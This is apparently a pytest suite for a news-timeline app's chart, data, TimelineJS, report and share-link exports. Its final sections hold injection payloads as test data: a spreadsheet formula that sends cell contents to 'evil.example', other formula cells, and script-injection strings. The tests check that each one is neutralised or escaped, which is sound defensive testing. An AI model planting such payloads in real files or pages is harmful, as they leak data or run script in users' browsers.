"""Share and export: chart images (really drawn by kaleido + chromium), the chart command, data and
TimelineJS exports, the offline HTML report in headless chromium, and links that restore a view."""
from __future__ import annotations

import io
import json
import os
import re
import struct
import subprocess
import sys
import xml.etree.ElementTree as ET
from urllib.parse import parse_qs, urlsplit

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from conftest import ARTICLES, ROOT, chromium, needs_chromium
from timeline import cli
from timeline.store.loader import read_corpus
from timeline.views import charts, export, images, query, report
from timeline.views.view import View, corpus_data, make_view

_no_image_browser = pytest.mark.skipif(images.browser_problem() is not None,
                                       reason="no Chromium for image export: bash setup.sh --browser")


def needs_browser(test):
    """Draws chart images with kaleido, which starts a Chromium: skipped without one."""
    return pytest.mark.browser(_no_image_browser(test))


PUTIN = {"actor": ["Vladimir Putin"]}


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    mp = pytest.MonkeyPatch()
    mp.setenv("TIMELINE_CACHE", str(tmp_path_factory.mktemp("export-cache")))
    try:
        return corpus_data(read_corpus(ARTICLES), ARTICLES)
    finally:
        mp.undo()


@pytest.fixture(scope="module")
def server():
    srv = images.ImageServer()
    yield srv
    srv.stop()


def view(data, **params) -> View:
    return make_view(data, charts.filters_for(params, data.domain))


def caption_bits(v: View) -> list[str]:
    s = charts.stats(v)
    return [f"{s['events']} events", f"{s['first']} – {s['last']}", "Vladimir Putin", "made "]


# ------------------------------------------------------------------ images

@needs_browser
def test_png_has_the_preset_size_resolution_and_caption(data, server):
    v = view(data, **PUTIN)
    png = charts.export("timeline", v, "png", "slide", server=server)
    assert png[:8] == b"\x89PNG\r\n\x1a\n" and png[12:16] == b"IHDR"
    assert struct.unpack(">II", png[16:24]) == images.PRESETS["slide"].png_size == (1920, 1080)
    from PIL import Image

    img = Image.open(io.BytesIO(png))
    img.load()
    assert img.size == (1920, 1080) and round(img.info["dpi"][0]) == 144
    meta = images.png_text(png)
    cap = charts.caption(v)
    assert meta["Description"] == f"{charts.subtitle(v)}\n{cap}".replace("\n", " · ")   # subtitle, then footnote
    for bit in caption_bits(v):
        assert bit in meta["Description"]
    # the caption is drawn: dark text in the strip under the plot, at the left edge
    strip = img.convert("L").crop((0, 1080 - 90, 1200, 1080 - 10))
    assert strip.getextrema()[0] < 140


def test_png_tags_keep_the_pixels_and_add_resolution_and_utf8_text():
    from PIL import Image, ImageDraw

    img = Image.new("RGBA", (320, 180), "white")
    ImageDraw.Draw(img).line((0, 0, 319, 179), fill=(44, 90, 160, 255), width=5)
    buf = io.BytesIO()
    img.save(buf, "PNG")
    text = {"Title": "Путин · Trump", "Description": "12 events · 2024-11-08 – 2025-01-24", "Software": "Timeline"}
    tagged = images.tag_png(buf.getvalue(), 288, text)
    assert images.png_text(tagged) == text
    back = Image.open(io.BytesIO(tagged))
    assert back.size == (320, 180) and back.mode == "RGBA" and round(back.info["dpi"][0]) == 288
    assert back.tobytes() == img.tobytes()
    assert images.png_text(buf.getvalue()) == {}
    assert images.tag_png(b"<svg/>", 288, text) == b"<svg/>"  # not a PNG: left as it is


@needs_browser
def test_svg_has_the_column_size_and_the_caption_as_text(data, server):
    v = view(data, **PUTIN)
    svg = charts.export("actors", v, "svg", "column", server=server)
    root = ET.fromstring(svg)
    assert root.tag.endswith("svg")
    assert (float(root.get("width")), float(root.get("height"))) == (605, 378)
    text = " ".join(t for t in root.itertext())
    for bit in caption_bits(v):
        assert bit in text
    assert "Events per actor" in text


@needs_browser
def test_pdf_has_the_square_page_and_the_caption(data, server):
    from pypdf import PdfReader

    v = view(data, **PUTIN)
    pdf = charts.export("network", v, "pdf", "square", server=server)
    assert pdf.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(pdf))
    assert len(reader.pages) == 1
    box = reader.pages[0].mediabox
    assert abs(float(box.width) - 540) < 1.5 and abs(float(box.height) - 540) < 1.5   # 720 px = 7.5 in
    text = re.sub(r"\s+", " ", reader.pages[0].extract_text())
    assert "Who appears with whom" in text and f"{len(v.events)} events" in text and "made " in text


def test_html_chart_needs_no_browser_and_is_offline(data, monkeypatch):
    monkeypatch.setenv("BROWSER_PATH", "/nonexistent/chromium")
    assert "chromium" in images.browser_problem()
    page = charts.export("heatmap", view(data), "html", "square").decode()
    assert "<script src=" not in page and "Plotly.newPlot" in page and "made " in page
    with pytest.raises(images.ExportUnavailable, match="apt-get install chromium"):
        images.ImageServer().render({"data": [], "layout": {}}, "png", 100, 100)


def test_chart_bad_input_gives_clear_messages(data):
    with pytest.raises(charts.ChartError, match="unknown chart kind"):
        charts.figure("pie", view(data))
    with pytest.raises(charts.ChartError, match="nothing to draw"):
        charts.export("timeline", view(data, q=["no-such-words-anywhere"]), "svg")
    with pytest.raises(charts.ChartError, match="“from” is after “to”"):
        view(data, **{"from": ["2025-02-01"], "to": ["2024-01-01"]})
    with pytest.raises(charts.ChartError, match="fits several|not in this corpus"):
        view(data, actor=["zz-nobody"])


# ------------------------------------------------------------ command line

def run_cli(*args, env=None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "timeline", *args], cwd=ROOT, capture_output=True, text=True,
                          env=dict(os.environ, **(env or {})), timeout=180)


@pytest.mark.parametrize("args, message", [
    (["pie", "--out", "x.svg"], "unknown chart kind “pie”"),
    (["timeline", "--from", "2025-02-01", "--to", "2024-01-01", "--out", "x.svg"], "“from” is after “to”"),
    (["timeline", "--q", "no-such-words-anywhere", "--out", "x.svg"], "no events match"),
    (["timeline", "--url", "http://host/?actor=&&from=yesterday", "--out", "x.svg"], "YYYY-MM-DD"),
    (["timeline", "--url", "%%%", "--out", "x.svg"], "unknown parameter"),
    (["timeline", "--out", "x.bmp"], "unknown format"),
    (["timeline", "--size", "poster", "--out", "x.svg"], "--size poster"),
])
def test_cli_chart_bad_input(tmp_path, capsys, args, message):
    """Exit status 2 and a clear message, no file (the command's entry point run in this process: an exception
    that escapes it fails the test; the commands run as subprocesses below and in test_cli)."""
    args = [a if a != "x.svg" else str(tmp_path / "x.svg") for a in args]
    try:
        code = cli.main(["chart", *args, "--data", str(ARTICLES)])
    except SystemExit as exc:  # argparse's own usage errors
        code = exc.code
    assert code == 2 and message in capsys.readouterr().err
    assert not (tmp_path / "x.svg").exists()


def _plotly_json(page: str) -> list[dict]:
    """The traces of the first Plotly.newPlot call of an HTML page."""
    i = page.index("Plotly.newPlot(")
    i = page.index(",", i) + 1
    while page[i].isspace():
        i += 1
    traces, _ = json.JSONDecoder().raw_decode(page, i)
    return traces


def _marks(traces: list[dict]) -> list[tuple]:
    return [(t["type"], t.get("name"), tuple(str(r[0]) for r in (t.get("customdata") or []))) for t in traces]


@pytest.mark.slow
def test_cli_chart_is_the_apps_figure_for_the_same_filters(tmp_path, monkeypatch):
    params = {"actor": ["Vladimir Putin", "Donald Trump"], "lanes": "type", "color": "side"}
    monkeypatch.setenv("TIMELINE_DATA", str(ARTICLES))
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    for k, v in params.items():
        at.query_params[k] = v
    at.run()
    assert not at.exception
    app_traces = json.loads(at.get("plotly_chart")[0].proto.spec)["data"]
    out = tmp_path / "chart.html"
    r = run_cli("chart", "timeline", "--actor", "Vladimir Putin", "--actor", "Trump", "--lanes", "type",
                "--color", "side", "--out", str(out), "--data", str(ARTICLES))
    assert r.returncode == 0, r.stderr
    assert "“Trump” is “Donald Trump”" in r.stderr
    cli_traces = _plotly_json(out.read_text())
    assert _marks(cli_traces) == _marks(app_traces) and _marks(app_traces)


@needs_browser
@pytest.mark.slow
def test_cli_chart_writes_an_svg(tmp_path):
    out = tmp_path / "putin.svg"
    r = run_cli("chart", "timeline", "--actor", "Putin", "--from", "2024-11-01", "--out", str(out),
                "--data", str(ARTICLES))
    assert r.returncode == 0, r.stderr
    root = ET.fromstring(out.read_bytes())
    text = " ".join(root.itertext())
    assert "actor Vladimir Putin; from 2024-11-01" in text and (root.get("width"), root.get("height")) == ("1280",
                                                                                                        "720")


# -------------------------------------------------------------- data exports

def test_data_exports_hold_the_filtered_events(data):
    v = view(data, **PUTIN, undated=["0"])
    n = len(v.events)
    assert 0 < n < len(data.events)
    csv = pd.read_csv(io.BytesIO(export.data_bytes(v, "csv")), encoding="utf-8-sig")
    assert len(csv) == n and set(csv["event_id"]) == set(v.events["event_id"])
    assert all("Vladimir Putin" in a for a in csv["actors"])
    js = json.loads(export.data_bytes(v, "json"))
    assert js["filters"] == {"actor": ["Vladimir Putin"], "undated": "0"} and len(js["events"]) == n
    assert all(e["evidence"] and e["outlets"] for e in js["events"])
    pq = pd.read_parquet(io.BytesIO(export.data_bytes(v, "parquet")))
    assert len(pq) == n and str(pq["date"].dtype).startswith("datetime64")
    ms = pd.read_csv(io.BytesIO(export.data_bytes(v, "mentions")), encoding="utf-8-sig")
    expected = data.mentions[data.mentions["event_id"].isin(v.events["event_id"])]
    assert len(ms) == len(expected) and set(ms["sentence"]) == set(expected["sentence"])


def test_timelinejs_has_the_required_fields_and_dates_at_their_precision(data):
    v = view(data)
    doc, left_out = export.timelinejs(v, group="type")
    assert json.loads(export.to_timelinejs(v))["events"]
    assert doc["title"]["text"]["headline"]
    dated = v.events[v.events["date"].notna()]
    assert left_out == len(v.events) - len(dated) > 0 and f"{left_out} undated" in doc["title"]["text"]["text"]
    assert len(doc["events"]) == len(dated)
    ids = [e["unique_id"] for e in doc["events"]]
    assert len(set(ids)) == len(ids) and all(re.fullmatch(r"[A-Za-z][\w-]*", i) for i in ids)
    by_id = dated.set_index("event_id")
    keys = {"day": {"year", "month", "day"}, "time": {"year", "month", "day"}, "week": {"year", "month", "day"},
            "month": {"year", "month"}, "season": {"year", "month"}, "quarter": {"year", "month"},
            "half": {"year", "month"}, "year": {"year"}, "decade": {"year"}}
    seen = set()
    for e in doc["events"]:
        row = by_id.loc[e["unique_id"].removeprefix("event-")]
        p = str(row["precision"])
        seen.add(p)
        assert set(e["start_date"]) <= keys[p] | {"hour", "minute"} and keys[p] <= set(e["start_date"])
        assert all(isinstance(x, str) and x.isdigit() for x in e["start_date"].values())
        assert e["start_date"]["year"] == str(row["date"].year)
        if "month" in keys[p]:
            assert e["start_date"]["month"] == str(row["date"].month)
        assert e["text"]["headline"] and "<blockquote>" in e["text"]["text"] and "Sources:" in e["text"]["text"]
        assert e["group"] == str(row["event_type"])
        if "end_date" in e:
            assert set(e["end_date"]) == set(e["start_date"]) - {"hour", "minute"}
    assert {"day", "month", "year"} <= seen


TLJS = ROOT / ".venv" / "timelinejs" / "package" / "dist"


@pytest.mark.browser
@needs_chromium
@pytest.mark.skipif(not (TLJS / "js" / "timeline.js").exists(),
                    reason="needs TimelineJS (bash setup.sh --browser fetches it with npm)")
def test_timelinejs_file_loads_in_timelinejs(data, tmp_path):
    """The export opened by the real TimelineJS library: one slide per dated event, no errors."""
    v = view(data)
    doc, _ = export.timelinejs(v, group="actor")
    (tmp_path / "timeline.json").write_bytes(export.to_timelinejs(v, group="actor"))
    (tmp_path / "index.html").write_text(f"""<!doctype html><html><head><meta charset="utf-8">
<link rel="stylesheet" href="{(TLJS / 'css' / 'timeline.css').as_uri()}">
<script src="{(TLJS / 'js' / 'timeline.js').as_uri()}"></script></head>
<body><div id="tl" style="width:1200px;height:700px"></div>
<script>window.tl = new TL.Timeline("tl", {json.dumps(doc)}, {{hash_bookmark: false}});</script></body></html>""",
                                         encoding="utf-8")
    errors, outside = [], []
    with chromium() as browser:
        page = browser.new_page()
        page.route("**/*", lambda route: route.continue_() if route.request.url.startswith(("file:", "data:"))
                   else (outside.append(route.request.url), route.abort()))
        page.on("pageerror", lambda exc: errors.append(str(exc)))
        page.goto((tmp_path / "index.html").as_uri())
        page.wait_for_selector(".tl-timeline .tl-slide", state="attached", timeout=30_000)
        page.wait_for_function("() => document.querySelectorAll('.tl-timemarker').length > 0", timeout=30_000)
        slides = page.locator(".tl-slide:not(.tl-slide-titleslide)").count()
        markers = page.locator(".tl-timemarker").count()
        headlines = page.locator(".tl-slide .tl-headline").all_text_contents()
        groups = page.locator(".tl-timegroup-message").all_text_contents()
        page.screenshot(path=str(tmp_path / "timelinejs.png"))
    assert not errors, errors
    assert slides == markers == len(doc["events"]) > 0
    assert doc["title"]["text"]["headline"] in " ".join(headlines)
    assert {e["group"] for e in doc["events"]} <= set(groups) and len(set(groups)) > 1


# -------------------------------------------------------------------- report

@pytest.mark.browser
@needs_chromium
def test_report_opens_offline_in_chromium_and_draws_its_charts(data, tmp_path):
    v = view(data, **PUTIN)
    path = tmp_path / "report.html"
    path.write_bytes(report.report_bytes(v, corpus="sample", link="http://localhost:8501/?actor=Vladimir+Putin"))
    outside, errors = [], []
    with chromium() as browser:
        ctx = browser.new_context(offline=True)
        page = ctx.new_page()
        page.route("**/*", lambda route: route.continue_() if route.request.url.startswith(("file:", "data:"))
                   else (outside.append(route.request.url), route.abort()))
        page.on("pageerror", lambda exc: errors.append(str(exc)))
        page.goto(path.as_uri())
        page.wait_for_function("document.querySelectorAll('.js-plotly-plot .main-svg').length >= 4",
                               timeout=30_000)
        n_plots = page.locator(".js-plotly-plot").count()
        points = page.locator(".js-plotly-plot .scatterlayer .point, .js-plotly-plot .bars path").count()
        rows = page.locator("tbody tr").count()
        header = page.locator("main").inner_text()[:600]
        page.screenshot(path=str(tmp_path / "report.png"), full_page=False)
    assert not outside and not errors
    assert n_plots == len(report.REPORT_CHARTS) and points > 0
    assert rows == len(v.events)
    assert "Filters: actor Vladimir Putin" in header and "Corpus: sample" in header


# ----------------------------------------------------------- links and views

@pytest.fixture
def app(monkeypatch):
    monkeypatch.setenv("TIMELINE_DATA", str(ARTICLES))
    monkeypatch.setenv("TIMELINE_URL", "https://timeline.example.org/")

    def make(params=None) -> AppTest:
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
        for k, val in (params or {}).items():
            at.query_params[k] = val
        return at
    return make


def _link(at) -> str:
    codes = [c.value for c in at.sidebar.code]
    assert codes, "no link in the sidebar"
    return codes[0]


def test_copy_link_round_trip_reproduces_the_view(app, data):
    at = app().run()
    at.switch_page("pages/actors.py").run()
    at.sidebar.multiselect(key="actors").set_value(["Vladimir Putin"]).run()
    at.sidebar.toggle(key="undated").set_value(False).run()
    at.segmented_control(key="period").set_value("month").run()
    assert not at.exception
    link = _link(at)
    assert link.startswith("https://timeline.example.org/?")
    params = parse_qs(urlsplit(link).query)
    filters, notices = query.parse(params, data.domain)
    assert not notices
    assert filters == query.Filters(actors=("Vladimir Putin",), undated=False, period="month", view="actor")
    before = [c.proto.spec for c in at.get("plotly_chart")]
    count = at.sidebar.markdown[0].value

    other = app({k: v for k, v in params.items()}).run()      # "another machine": a fresh session, same page
    assert not other.exception
    assert [c.proto.spec for c in other.get("plotly_chart")] == before
    assert other.sidebar.markdown[0].value == count
    assert _link(other) == link


def test_selected_event_and_page_choices_are_part_of_the_link(monkeypatch, data):
    from dashboard.exports import share_link

    monkeypatch.setenv("TIMELINE_URL", "https://timeline.example.org/event")
    event_id = str(data.events["event_id"].iloc[0])
    f = query.Filters(event=event_id, lanes="type", color="side", actors=("Vladimir Putin",), view="event")
    link = share_link(f)
    assert link.startswith("https://timeline.example.org/?")  # the page is named by view=, not by the path
    assert query.parse(parse_qs(urlsplit(link).query), data.domain) == (f, [])


def test_malformed_urls_show_notices_not_errors(app):
    at = app({"from": "31/12/2024", "actor": ["Nobody <b>"], "min_sources": "many", "zzz": "1",
              "lanes": "diagonal"}).run()
    assert not at.exception
    notices = " ".join(h.proto.body for h in at.sidebar.get("html"))
    for bit in ("YYYY-MM-DD", "not in this corpus", "whole number", "unknown parameter", "expected one of"):
        assert bit in notices
    assert "Nobody <b>" not in notices


def test_without_a_browser_image_buttons_explain_and_html_still_works(app, monkeypatch):
    monkeypatch.setenv("BROWSER_PATH", "/nonexistent/chromium")
    at = app().run()
    assert not at.exception
    assert any("apt-get install chromium" in w.value for w in at.warning)
    buttons = {b.proto.label: b.proto.disabled for b in at.get("download_button")}
    assert buttons["PNG"] and buttons["SVG"] and buttons["PDF"] and not buttons["HTML"]
    assert not buttons["HTML report"] and not buttons["TimelineJS"]


# ------------------------------------------------------------------ spreadsheet formulas in CSV exports

FORMULA_ARTICLE = """date 2025-01-24

=HYPERLINK("http://evil.example/?leak="&A1,"Putin said on Jan. 24 that Russia is ready for talks.")

+Vladimir Putin met Donald Trump on Jan. 20, 2025 in Moscow, officials said.

-Dmitry Peskov told reporters on Jan. 22 that the meeting went well.

@SUM(1+1) Sergey Lavrov said on Jan. 23 that talks would go ahead.

\t=1+2 Putin said on Jan. 21 that he spoke with Trump.
"""


@pytest.fixture(scope="module")
def formula_folder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("formulas")
    (folder / "evil.txt").write_text(FORMULA_ARTICLE, encoding="utf-8")
    (folder / "sources.csv").write_text('file,published,outlet,url,title\nevil.txt,2025-01-24,@outlet,,'
                                        '"=HYPERLINK(""http://evil.example"",""x"")"\n', encoding="utf-8")
    return folder


def _formula_cells(raw: bytes) -> list[str]:
    """The cells of a CSV file that a spreadsheet would run as formulas."""
    import csv as csvmod

    rows = list(csvmod.reader(io.StringIO(raw.decode("utf-8-sig"))))
    return [c for row in rows for c in row if re.match(r"^[\t\r]|^\s*[=+\-@]", c)
            and not re.fullmatch(r"-?\d+(\.\d+)?", c.strip())]


def test_csv_exports_neutralise_spreadsheet_formulas(formula_folder, monkeypatch, tmp_path):
    monkeypatch.setenv("TIMELINE_CACHE", str(tmp_path / "cache"))
    data = corpus_data(read_corpus(formula_folder), formula_folder)
    v = view(data)
    assert len(v.events) >= 3
    for fmt in ("csv", "mentions"):
        raw = export.data_bytes(v, fmt)
        assert _formula_cells(raw) == [], fmt
        text = raw.decode("utf-8-sig")
        assert "'=HYPERLINK(" in text and "'@outlet" in text
    # JSON keeps the text as it is
    js = json.loads(export.data_bytes(v, "json"))
    assert any(t.startswith("=HYPERLINK(") for e in js["events"] for t in e["titles"])
    pq = pd.read_parquet(io.BytesIO(export.data_bytes(v, "parquet")))
    assert any(str(t).startswith("=HYPERLINK(") for ts in pq["titles"] for t in ts)


def test_csv_cell_keeps_numbers_and_dates():
    from timeline.views.text import csv_cell

    for kept in ("-3", "+4", "-1.5e3", "2025-01-24", "plain text", "a=b", "", None, 3, -3.5):
        assert csv_cell(kept) == kept
    for bad in ("=1+1", "+A1", "-A1+1", "@SUM(A1)", "\tx", "\rx", "  =1+1", " -2+3", "-3 =cmd"):
        assert csv_cell(bad) == "'" + bad


@pytest.mark.slow
def test_cli_csv_outputs_neutralise_spreadsheet_formulas(formula_folder, tmp_path):
    env = {**os.environ, "TIMELINE_CACHE": str(tmp_path / "cache")}
    events, keydates = tmp_path / "events.csv", tmp_path / "keydates.csv"
    r = run_cli("extract", str(formula_folder), "--out", str(events), env=env)
    assert r.returncode == 0, r.stderr
    assert _formula_cells(events.read_bytes()) == []
    assert "'=HYPERLINK(" in events.read_text(encoding="utf-8") or "'+Vladimir" in events.read_text(encoding="utf-8")
    jl = tmp_path / "events.jsonl"
    assert run_cli("extract", str(formula_folder), "--out", str(jl), env=env).returncode == 0
    assert any(json.loads(line)["mentions"][0]["sentence"].startswith(("=", "+", "-", "@"))
               for line in jl.read_text(encoding="utf-8").splitlines())
    r = run_cli("keydates", str(formula_folder), "--k", "3", "--out", str(keydates), env=env)
    assert r.returncode == 0, r.stderr
    assert _formula_cells(keydates.read_bytes()) == []


def test_timelinejs_escapes_group_and_display_date(corpus_dir, tmp_path, monkeypatch):
    from timeline.store import curation, edits, loader

    monkeypatch.setenv("TIMELINE_CACHE", str(tmp_path / "cache"))
    corpus = read_corpus(corpus_dir)
    log = curation.Log(edits.engine(edits.default_url(corpus_dir)))
    cur = loader.curate(corpus, log).curation
    ann = curation.Curator(log, cur.events, cur.mentions, "ann")
    bad = "<img src=x onerror=alert(1)>"
    doc = str(corpus.documents["doc"].iloc[0])
    _, eid = ann.add(doc=doc, quote="Putin", date="2025-01-21", actors=[bad], event_type=f"<b>{bad}</b>",
                     summary="by hand", date_text=f"<script>alert(2)</script>")
    data = corpus_data(loader.curate(corpus, log).corpus, corpus_dir)
    for lanes in ("actor", "type"):
        doc_, _ = export.timelinejs(view(data), group=lanes)
        item = next(e for e in doc_["events"] if e["unique_id"] == f"event-{eid}")
        assert "<" not in item["group"] and "&lt;img src=x onerror=alert(1)&gt;" in item["group"]
        assert item["display_date"] == "&lt;script&gt;alert(2)&lt;/script&gt;"


# ----------------------------------------------------------- the story (key events mode)

def _layout_json(page: str) -> dict:
    """The layout (third argument) of the first Plotly.newPlot call of an HTML page."""
    i = page.index("Plotly.newPlot(")
    i = page.index(",", i) + 1
    dec = json.JSONDecoder()
    while page[i].isspace():
        i += 1
    _, i = dec.raw_decode(page, i)
    i = page.index(",", i) + 1
    while page[i].isspace():
        i += 1
    layout, _ = dec.raw_decode(page, i)
    return layout


@pytest.mark.slow
def test_cli_chart_mode_key_draws_the_headline_labels(tmp_path, data):
    from timeline.views import story

    out = tmp_path / "key.html"
    r = run_cli("chart", "timeline", "--mode", "key", "--out", str(out), "--data", str(ARTICLES))
    assert r.returncode == 0, r.stderr
    layout = _layout_json(out.read_text())
    kds = story.compute(view(data))
    labels = [a["text"].replace("<br>", " ") for a in layout["annotations"] if a.get("name", "").startswith("key-")]
    assert len(labels) >= 3 and layout["meta"]["mode"] == "key"
    assert all(any(images.html_text(kd.headline).replace("&quot;", "&#34;").startswith(x.rstrip("…")) for kd in kds)
               for x in labels)
    assert "Key events over time" in out.read_text()
    r = run_cli("chart", "timeline", "--mode", "all", "--out", str(tmp_path / "all.html"), "--data", str(ARTICLES))
    assert r.returncode == 0 and _layout_json((tmp_path / "all.html").read_text())["meta"]["mode"] != "key"
    r = run_cli("chart", "timeline", "--mode", "headlines", "--out", str(tmp_path / "x.html"), "--data", str(ARTICLES))
    assert r.returncode == 2 and "expected one of auto, key, all" in r.stderr


@needs_browser
@pytest.mark.slow
def test_key_chart_image_has_the_headlines_as_text(data, server):
    v = view(data, mode="key")
    from timeline.views import story

    svg = charts.export("timeline", v, "svg", "column", server=server).decode()
    text = " ".join(ET.fromstring(svg).itertext())
    heads = [kd.headline for kd in story.key_dates_of(v)]
    assert sum(h.split()[0] in text and h.split()[-1] in text for h in heads) >= 2
    assert "Key events over time" in text


def test_story_markdown_is_in_date_order_with_sources_and_escaped(data):
    from timeline.views import story
    from timeline.views.keydates import KeyDate

    v = view(data, mode="key")
    kds = story.key_dates_of(v)
    md = story.to_markdown(kds, filters=charts.describe(v.filters))
    heads = [line for line in md.splitlines() if line.startswith("## ")]
    assert [h[3:13] for h in heads] == sorted(kd.date for kd in kds)
    assert f"{kds[0].articles} article" in md and "- " in md
    evil = KeyDate(date="2024-11-08", score=1, headline="[click](javascript:alert(1)) **now**",
                   summary="<b>bold</b> | `code`", articles=1, outlets=["Evil_Outlet"],
                   sentences=[{"sentence": "# not a heading", "doc": "d1", "outlet": None, "published": None}])
    md = story.to_markdown([evil])
    assert "[click](javascript" not in md and "\\[click\\]\\(javascript" in md and "\\*\\*now\\*\\*" in md
    assert "\\<b\\>" in md and "\\`code\\`" in md and "Evil\\_Outlet" in md and "- \\# not a heading" in md


def test_report_has_the_story_in_key_mode_only(data):
    from timeline.views import story

    v = view(data, mode="key")
    page = report.report_html(v, corpus="sample")
    kds = story.key_dates_of(v)
    assert "<h2 id='story'>Story (" in page
    for kd in kds:
        assert images.html_text(kd.headline) in page and images.html_text(kd.summary) in page
        assert f"href='#event-{kd.headline_event}'" in page and f"id='event-{kd.headline_event}'" in page
    assert page.index(images.html_text(min(kds, key=lambda k: k.date).headline)) < \
        page.index(images.html_text(max(kds, key=lambda k: k.date).headline))
    assert page.index('id="chart-timeline"') < page.index("id='story'") < page.index('id="chart-actors"')
    assert "id='story'" not in report.report_html(view(data, mode="all"), corpus="sample")


def test_timelinejs_uses_key_date_headlines_in_key_mode(data):
    from timeline.views import story

    v = view(data, mode="key")
    heads = {kd.headline_event: kd.headline for kd in story.key_dates_of(v)}
    doc, _ = export.timelinejs(v)
    by_id = {e["unique_id"].removeprefix("event-"): e["text"]["headline"] for e in doc["events"]}
    assert heads and all(by_id[eid] == images.html_text(h) for eid, h in heads.items())
    others = [eid for eid in by_id if eid not in heads]
    summaries = v.events.set_index("event_id")["summary"]
    assert others and all(by_id[eid] == images.html_text(export._headline({"summary": summaries[eid]}))
                          for eid in others)
    plain, _ = export.timelinejs(view(data, mode="all"))
    assert all(e["text"]["headline"] != images.html_text(heads[e["unique_id"].removeprefix("event-")])
               for e in plain["events"] if e["unique_id"].removeprefix("event-") in heads)


def test_a_narrow_view_tells_a_short_story(data):
    from timeline.views import keydates, story

    wide, narrow = view(data), view(data, **PUTIN)
    full = keydates.key_dates((wide.events, data.mentions, data.documents))
    assert len(story.compute(wide)) == min(len(full), max(keydates.K_MIN, len(wide.events) // story.EVENTS_PER_KEY_DATE))
    kds = story.compute(narrow)
    assert len(kds) <= max(keydates.K_MIN, len(narrow.events) // story.EVENTS_PER_KEY_DATE)
    assert [kd.date for kd in story.compute(narrow, k=5)][:len(kds)] == [kd.date for kd in kds]  # the best of them


def test_story_entries_escape_document_text():
    from timeline.views import story
    from timeline.views.keydates import KeyDate

    evil = KeyDate(date="2024-11-08", score=1, headline="<script>alert(1)</script>", summary="<img src=x onerror=y>",
                   articles=2, outlets=["<b>Outlet</b>"], event_ids=["e1"], headline_event="e1' onclick='x")
    for page in (story.entry_html(evil), story.story_html([evil])):
        assert "<script>" not in page and "<img" not in page and "<b>Outlet" not in page
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&lt;b&gt;Outlet&lt;/b&gt;" in page
    assert "href='#event-e1&#x27; onclick=&#x27;x'" in story.story_html([evil])
